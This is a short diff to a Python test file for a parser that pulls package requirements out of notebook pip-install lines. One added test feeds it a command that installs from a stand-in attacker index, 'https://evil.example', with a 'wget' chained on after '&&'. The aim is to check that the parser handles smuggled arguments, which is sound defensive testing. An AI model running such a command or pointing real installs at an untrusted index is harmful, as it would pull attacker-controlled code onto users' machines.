@@ -93,6 +93,9 @@ def test_requirements_of_pip_commands_are_kept() -> None:
         "!pip install -q 'scikit-image>=0.20' nonsense\n%pip install --upgrade keras\n!python -m pip install tqdm"
     )
     assert found.installs == {"scikit-image>=0.20", "nonsense", "keras", "tqdm"}
+    assert needs("!pip install -r requirements.txt -i https://evil.example x && wget y").installs == {
+        *("-r requirements.txt", "-i https://evil.example", "x")
+    }
 
 
 @pytest.mark.parametrize(
